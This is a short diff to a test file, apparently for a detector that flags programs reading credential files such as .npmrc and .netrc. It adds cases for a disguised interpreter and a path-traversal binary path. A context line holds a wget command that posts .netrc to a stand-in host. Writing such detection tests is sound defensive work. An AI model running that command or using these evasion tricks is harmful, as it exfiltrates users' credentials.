@@ -51,6 +51,12 @@ describe('a program that reads its own credentials', () => {
       '/home/user/.npmrc',
     ],
     [
+      'its script in the hands of an interpreter of the sample’s',
+      [NPM[0] as Event, executed('/tmp/node', 'node /usr/bin/npm ci')],
+      '/home/user/.npmrc',
+    ],
+    ['a path that only begins as the system’s', [executed('/usr/bin/../../tmp/npm', 'npm ci')], '/home/user/.npmrc'],
+    [
       'one that was told to',
       [executed('/usr/bin/wget', 'wget --post-file=.netrc http://x.example')],
       '/home/user/.netrc',
